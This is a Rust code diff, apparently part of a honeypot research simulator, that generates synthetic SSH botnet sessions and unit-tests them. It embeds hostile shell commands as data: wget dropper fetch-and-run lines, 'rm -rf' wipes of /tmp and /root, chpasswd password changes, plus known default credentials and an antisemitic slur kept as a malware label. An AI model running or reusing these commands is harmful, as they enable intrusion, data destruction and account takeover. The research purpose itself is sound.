+                    HeisenAttack => ("Heisenberg", MalwareFamily::Mirai),
+                    ZeusAttack => ("Zeus", MalwareFamily::Malicious),
+                    FrSlurAttack => ("fuckjewishpeople", MalwareFamily::Gafgyt),
+                    _ => unreachable!(),
+                };
+                let uri = ctx.dropper(family);
+                let host = uri.split('/').nth(2).unwrap_or("0.0.0.0").to_string();
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!(
+                        "cd /tmp; wget http://{host}/{token}.sh; chmod 777 {token}.sh; sh {token}.sh"
+                    )],
+                    "SSH-2.0-Go",
+                )
+            }
+            Passwd123Daemon => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec![
+                    "echo daemon:Password123|chpasswd; sh .daemon".to_string(),
+                ],
+                "SSH-2.0-Go",
+            ),
+            RmObfPattern1 => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec![
+                    "cd /tmp ; rm -rf /tmp/* || cd /var/run || cd /mnt || cd /root ; rm -rf /root/* || cd /"
+                        .to_string(),
+                ],
+                "SSH-2.0-Go",
+            ),
+            WgetDget => {
+                let uri = ctx.dropper(MalwareFamily::Dofloo);
+                let file = uri.rsplit('/').next().unwrap_or("d.sh").to_string();
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!("wget -4 {uri} || dget -4 {uri}; sh {file}")],
+                    "SSH-2.0-Go",
+                )
+            }
+        }
+    }
+}
+
+fn hex_token(ctx: &mut BotCtx<'_>, n: usize) -> String {
+    const CS: &[u8] = b"0123456789abcdef";
+    (0..n).map(|_| CS[ctx.rng.random_range(0..CS.len())] as char).collect()
+}
+
+/// Category name for a `gen_*` tool combination, matching Table 1 labels.
+pub fn gen_loader_name(curl: bool, echo: bool, ftp: bool, wget: bool) -> &'static str {
+    match (curl, echo, ftp, wget) {
+        (true, true, true, true) => "gen_curl_echo_ftp_wget",
+        (true, true, true, false) => "gen_curl_echo_ftp",
+        (true, true, false, true) => "gen_curl_echo_wget",
+        (true, true, false, false) => "gen_curl_echo",
+        (true, false, true, true) => "gen_curl_ftp_wget",
+        (true, false, true, false) => "gen_curl_ftp",
+        (true, false, false, true) => "gen_curl_wget",
+        (true, false, false, false) => "gen_curl",
+        (false, true, true, true) => "gen_echo_ftp_wget",
+        (false, true, true, false) => "gen_echo_ftp",
+        (false, true, false, true) => "gen_echo_wget",
+        (false, true, false, false) => "gen_echo",
+        (false, false, true, true) => "gen_ftp_wget",
+        (false, false, true, false) => "gen_ftp",
+        (false, false, false, true) => "gen_wget",
+        (false, false, false, false) => "gen_none",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::storage::{StorageConfig, StorageEcosystem};
+    use hutil::rng::SeedTree;
+    use rand::SeedableRng;
+
+    fn eco() -> StorageEcosystem {
+        let cfg = StorageConfig::paper_defaults(Date::new(2021, 12, 1), Date::new(2024, 8, 31));
+        StorageEcosystem::new(&cfg, SeedTree::new(3), |i, _| {
+            (65_500 + (i % 40) as u32, Ipv4Addr(0x3000_0000 + i as u32 * 11), None)
+        })
+    }
+
+    fn one(bot: Archetype, date: Date) -> BotSessionContent {
+        let e = eco();
+        let mut rng = StdRng::seed_from_u64(77);
+        let mut ctx = BotCtx {
+            rng: &mut rng,
+            date,
+            client_ip: Ipv4Addr::from_octets(10, 2, 3, 4),
+            self_host: false,
+            storage: &e,
+        };
+        bot.session(&mut ctx)
+    }
+
+    #[test]
+    fn scanner_has_no_credentials() {
+        let s = one(Archetype::Scanner, Date::new(2022, 1, 1));
+        assert!(s.logins.is_empty() && s.commands.is_empty());
+    }
+
+    #[test]
+    fn scout_never_succeeds() {
+        let policy = honeypot::AuthPolicy::default();
+        for seed in 0..30 {
+            let e = eco();
+            let mut rng = StdRng::seed_from_u64(seed);
+            let mut ctx = BotCtx {
+                rng: &mut rng,
+                date: Date::new(2022, 6, 1),
+                client_ip: Ipv4Addr(9),
+                self_host: false,
+                storage: &e,
+            };
+            let s = Archetype::GenericScout.session(&mut ctx);
+            assert!(!s.logins.is_empty());
+            for (u, p) in &s.logins {
+                assert!(!policy.accept(u, p), "scout credential {u}:{p} must fail");
+            }
+        }
+    }
+
+    #[test]
+    fn ladder_sessions_end_in_success() {
+        let policy = honeypot::AuthPolicy::default();
+        let s = one(Archetype::EchoOk, Date::new(2022, 1, 1));
+        let (u, p) = s.logins.last().unwrap();
+        assert!(policy.accept(u, p));
+    }
+
+    #[test]
+    fn echo_ok_matches_its_indicator() {
+        let s = one(Archetype::EchoOk, Date::new(2022, 1, 1));
+        assert!(s.commands[0].contains(r"\x6F\x6B"));
+    }
+
+    #[test]
+    fn mdrfckr_variant_differs_from_initial() {
+        let init = one(Archetype::MdrfckrInitial, Date::new(2022, 6, 1));
+        let var = one(Archetype::MdrfckrVariant, Date::new(2023, 2, 1));
+        let init_text = init.commands.join("\n");
+        let var_text = var.commands.join("\n");
+        assert!(init_text.contains("chpasswd"));
+        assert!(!var_text.contains("chpasswd"));
+        assert!(var_text.contains("hosts.deny"));
+        assert!(var_text.contains("auth.sh"));
+        assert!(init_text.contains("mdrfckr") && var_text.contains("mdrfckr"));
+    }
+
+    #[test]
+    fn mdrfckr_b64_decodes_to_known_scripts() {
+        let s = one(Archetype::MdrfckrB64, Date::new(2022, 10, 12));
+        let cmd = s.commands.iter().find(|c| c.contains("base64 -d")).unwrap();
+        let b64 = cmd
+            .strip_prefix("echo ")
+            .unwrap()
+            .split('|')
+            .next()
+            .unwrap()
+            .trim();
+        let decoded = String::from_utf8(hutil::base64::decode(b64).unwrap()).unwrap();
+        let known = mdrfckr_b64_scripts();
+        assert!(known.iter().any(|k| *k == decoded), "decoded: {decoded}");
+    }
+
+    #[test]
+    fn cleanup_script_names_all_c2_ips() {
+        let scripts = mdrfckr_b64_scripts();
+        let cleanup = &scripts[2];
+        for ip in mdrfckr_c2_ips() {
+            assert!(cleanup.contains(&ip.to_string()));
+        }
+    }
+
+    #[test]
+    fn curl_maxred_volume_and_shape() {
+        let s = one(Archetype::CurlMaxred, Date::new(2024, 2, 1));
+        assert!(s.commands.len() >= 90 && s.commands.len() <= 110);
+        assert!(s.commands.iter().all(|c| c.contains("--max-redirs")));
+        assert!(s.commands.iter().any(|c| c.contains("-X POST")));
+    }
+
+    #[test]
+    fn cred_3245_is_login_only() {
+        let s = one(Archetype::Cred3245, Date::new(2023, 1, 1));
+        assert_eq!(s.logins, vec![("root".to_string(), "3245gs5662d34".to_string())]);
+        assert!(s.commands.is_empty());
+    }
+
+    #[test]
+    fn bbox5_shifts_to_missing_files_in_2023() {
+        let mut exists_2022 = 0;
+        let mut exists_2023 = 0;
+        let e = eco();
+        for seed in 0..100 {
+            let mut rng = StdRng::seed_from_u64(seed);
+            let mut ctx = BotCtx {
+                rng: &mut rng,
+                date: Date::new(2022, 5, 1),
+                client_ip: Ipv4Addr(7),
+                self_host: false,
+                storage: &e,
+            };
+            let s = Archetype::Bbox5Char.session(&mut ctx);
+            if s.commands[0].contains("wget http") {
+                exists_2022 += 1;
+            }
+            let mut rng = StdRng::seed_from_u64(seed);
+            let mut ctx = BotCtx {
+                rng: &mut rng,
+                date: Date::new(2023, 5, 1),
+                client_ip: Ipv4Addr(7),
+                self_host: false,
+                storage: &e,
+            };
+            let s = Archetype::Bbox5Char.session(&mut ctx);
+            if s.commands[0].contains("wget http") {
+                exists_2023 += 1;
+            }
+        }
+        assert!(exists_2022 > 60, "2022 should mostly download: {exists_2022}");
+        assert!(exists_2023 < 15, "2023 should mostly assume: {exists_2023}");
+    }
+
+    #[test]
+    fn gen_loader_names_cover_combos() {
+        assert_eq!(gen_loader_name(true, false, false, true), "gen_curl_wget");
+        assert_eq!(gen_loader_name(false, false, false, true), "gen_wget");
+        assert_eq!(gen_loader_name(true, true, true, true), "gen_curl_echo_ftp_wget");
+    }
+
+    #[test]
+    fn gen_loader_commands_contain_their_tools() {
+        let s = one(
+            Archetype::GenLoader { curl: true, echo: true, ftp: true, wget: true, exec: true },
+            Date::new(2022, 4, 1),
+        );
+        let text = &s.commands[0];
+        for t in ["curl", "echo", "ftp", "wget"] {
+            assert!(text.contains(t), "missing {t} in {text}");
+        }
+    }
+
+    #[test]
+    fn tvbox_bots_use_default_credentials() {
+        let d = one(Archetype::TvBoxDreambox, Date::new(2023, 8, 1));
+        assert_eq!(d.logins[0].1, "dreambox");
+        assert!(d.commands[0].contains("wget"));
+        let v = one(Archetype::TvBoxVertex, Date::new(2023, 8, 1));
+        assert_eq!(v.logins[0].1, "vertex25ektks123");
+    }
+
+    #[test]
+    fn phil_scanner_logs_in_and_leaves() {
+        let mut phil = 0;
+        let mut richard = 0;
+        let e = eco();
+        for seed in 0..100 {
+            let mut rng = StdRng::seed_from_u64(seed);
+            let mut ctx = BotCtx {
+                rng: &mut rng,
+                date: Date::new(2023, 1, 1),
+                client_ip: Ipv4Addr(5),
+                self_host: false,
+                storage: &e,
+            };
+            let s = Archetype::PhilScanner.session(&mut ctx);
+            assert!(s.commands.is_empty());
+            match s.logins[0].0.as_str() {
+                "phil" => phil += 1,
+                "richard" => richard += 1,
+                other => panic!("unexpected user {other}"),
+            }
+        }
+        assert!(phil > richard, "phil should dominate: {phil} vs {richard}");
+        assert!(richard > 10);
+    }
+
+    #[test]
+    fn rapperbot_key_matches_indicator() {
+        let s = one(Archetype::RapperBot, Date::new(2022, 8, 1));
+        assert!(s.commands[0].contains("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABA"));
+        assert!(!s.commands[0].contains("mdrfckr"));
+    }
+
+    #[test]
+    fn sessions_are_deterministic_per_seed() {
+        let a = one(Archetype::CurlMaxred, Date::new(2024, 3, 1));
+        let b = one(Archetype::CurlMaxred, Date::new(2024, 3, 1));
+        assert_eq!(a.commands, b.commands);
+    }
+}
